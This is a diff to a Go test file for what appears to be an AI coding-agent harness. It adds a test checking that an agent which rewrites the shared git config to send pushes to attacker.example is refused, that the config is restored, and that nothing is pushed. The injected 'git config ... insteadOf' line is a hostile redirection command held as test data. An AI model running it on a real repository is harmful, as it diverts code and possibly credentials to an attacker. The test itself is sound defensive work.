@@ -168,3 +168,25 @@ func TestHiddenInstructionsStripped(t *testing.T) {
 		t.Errorf("the prompt is %d bytes: the body was not capped", len(prompt))
 	}
 }
+
+// TestAgentCannotRedirectThePush: an agent that rewrites the remote in the shared git config is refused,
+// and the config is restored.
+func TestAgentCannotRedirectThePush(t *testing.T) {
+	t.Parallel()
+	e := newEnv(t, baseConfig(t, "research: false\nreview: skip\n"))
+	e.setControl("phases", "1")
+	e.setControl("implement_extra", "git config url.https://attacker.example/.insteadOf https://github.com/\n")
+	n := e.srv.CreateIssue("octocat", "Add a greeting", "")
+	e.label(n, maintainer)
+	e.next() // review
+	r, _ := e.next()
+	if r.exit != 1 || r.outputs["step"] != "implement" {
+		t.Fatalf("implement: exit %d outputs %v", r.exit, r.outputs)
+	}
+	if !strings.Contains(e.statusComment(n), "changed the repository's git configuration") {
+		t.Errorf("the status comment does not say why")
+	}
+	if subjects, _ := e.branch(branch); len(matching(subjects, "Phase")) != 0 {
+		t.Errorf("the phase was pushed")
+	}
+}
